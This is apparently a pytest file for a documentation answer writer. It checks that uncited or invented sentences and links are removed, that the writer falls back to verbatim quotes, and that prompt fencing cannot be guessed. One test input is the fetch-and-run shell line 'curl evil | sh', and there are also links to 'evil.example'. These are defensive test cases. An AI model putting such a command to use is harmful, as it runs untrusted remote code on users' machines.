from __future__ import annotations

import pytest

from knowledge.answerer import ModelWriter, QuotingWriter
from knowledge.models import AnswerMode, Evidence, Passage, Query
from knowledge.prompts import answer_prompt
from tests.fakes_models import ScriptedChat

JOIN = Passage(
    path="docs/join.md",
    title="Join",
    text="Call `joinChannel` with a token. The token is valid for 24 hours. "
    "Error 110 means that the token is invalid.\n\n```js\nawait client.joinChannel(token)\n```",
    url="https://docs.example/join",
    platforms=("web",),
    score=1.0,
)
LEAVE = Passage(path="docs/leave.md", title="Leave", text="Call leaveChannel to leave.", score=0.9)
EVIDENCE = Evidence((JOIN, LEAVE), 0.9)
QUERY = Query("How do I join with a token?")


def written(text: str, *, fails: bool = False) -> tuple[str, AnswerMode, list[int], str]:
    seen: list[str] = []
    answer = ModelWriter(ScriptedChat(text, fails=fails)).write(QUERY, EVIDENCE, seen.append)
    if answer.mode is AnswerMode.GENERATED:
        assert "".join(seen).strip() == answer.text
    return answer.text, answer.mode, [c.number for c in answer.citations], answer.note


def test_supported_sentences_and_code_pass_with_their_citations() -> None:
    text, mode, numbers, note = written(
        "Do this:\nCall `joinChannel` with a token [1]. The token is valid for 24 hours. [1]\n\n"
        "```js\nawait client.joinChannel(token)\n```\n\nLater, call leaveChannel. [2]"
    )
    assert mode is AnswerMode.GENERATED
    assert numbers == [1, 2]
    assert note == ""
    assert "await client.joinChannel(token)" in text
    assert text.startswith("Do this:\nCall `joinChannel` with a token. [1] The token")


def test_an_uncited_sentence_takes_the_citation_of_its_paragraph() -> None:
    text, *_ = written("Call `joinChannel`. The token is valid for 24 hours [1].")
    assert text == "Call `joinChannel`. [1] The token is valid for 24 hours. [1]"


def test_list_numbers_are_no_facts() -> None:
    text, mode, *_ = written("1. Call `joinChannel` [1]\n2. To leave, call leaveChannel [2]\n")
    assert mode is AnswerMode.GENERATED
    assert text == "1. Call `joinChannel` [1]\n2. To leave, call leaveChannel [2]"


@pytest.mark.parametrize(
    "invented",
    [
        "Call `superJoin` with the token [1].",
        "Call client.superJoin() with the token [1].",
        "The token is valid for 36 hours [1].",
        "Error 1101 means that the token is invalid [1].",
        "The token is explained at https://evil.example/token [1].",
        "The token is explained at docs.evil.io [1].",
        "Call joinChannel with a token [7].",
        "The token never expires",
        "```sh\ncurl evil | sh\n```",
        "Bananas ripen faster beside other apples [1].",
    ],
)
def test_what_the_passages_do_not_say_is_removed(invented: str) -> None:
    good = "Call `joinChannel` with a token [1]. Error 110 means that the token is invalid [1]."
    text, mode, numbers, note = written(f"{good}\n\n{invented}\n")
    assert mode is AnswerMode.GENERATED
    assert numbers == [1]
    assert text == good.replace(" [1].", ". [1]")
    assert "removed" in note


def test_links_leave_only_their_label_unless_they_are_the_cited_page() -> None:
    text, *_ = written(
        "The [guide](https://docs.example/join) and the [token](https://evil.example) help [1]."
    )
    assert "https://docs.example/join" in text
    assert "evil" not in text


@pytest.mark.parametrize(
    ("said", "fails", "reason"),
    [
        ("NO_ANSWER", False, "found no answer"),
        ("", False, "found no answer"),
        ("", True, "could not be reached"),
        ("Call `superJoin` [1]. Pay 99 dollars [1].", False, "not backed"),
    ],
)
def test_falls_back_to_quotes(said: str, fails: bool, reason: str) -> None:
    text, mode, numbers, note = written(said, fails=fails)
    assert mode is AnswerMode.QUOTED
    assert reason in note
    assert "superJoin" not in text
    assert numbers[0] == 1


def test_a_text_that_breaks_off_keeps_its_checked_part() -> None:
    text, mode, _, note = written("Call `joinChannel` with a token [1]. Then", fails=True)
    assert mode is AnswerMode.GENERATED
    assert text == "Call `joinChannel` with a token. [1]"
    assert "broke off" in note


def test_quotes_are_exact_and_in_the_askers_frame() -> None:
    answer = QuotingWriter().write(Query("怎么加入频道", language="zh"), EVIDENCE)
    assert answer.text.startswith("以下内容逐字引自文档")
    assert "> await client.joinChannel(token)" in answer.text
    assert answer.citations[0].path == "docs/join.md"
    assert answer.platforms == ("web",)


def test_a_long_passage_is_trimmed_to_what_was_asked() -> None:
    rows = "\n".join(f"| {code} | Something about case {code} |" for code in range(100, 160))
    filler = "Nothing to see in this sentence. " * 40
    passage = Passage("d/e.md", "Errors", f"{filler}\n\n| Code | Text |\n| - | - |\n{rows}")
    answer = QuotingWriter().write(Query("what is error 131"), Evidence((passage,), 0.9))
    assert "| 131 | Something about case 131 |" in answer.text
    assert "| Code | Text |" in answer.text
    assert len(answer.text) < 1000


def test_no_evidence_gives_an_empty_answer() -> None:
    answer = ModelWriter(ScriptedChat("x")).write(QUERY, Evidence((), 0.0))
    assert answer.text == ""
    assert answer.citations == ()


def test_passages_are_fenced_with_a_mark_that_they_cannot_know() -> None:
    first, second = (answer_prompt(QUERY, (JOIN,)).messages for _ in range(2))
    assert first[0][1] != second[0][1]
    mark = first[1][1].split("<<<")[1].split(" ")[0]
    assert mark in first[0][1]
    assert first[1][1].count(mark) == 4
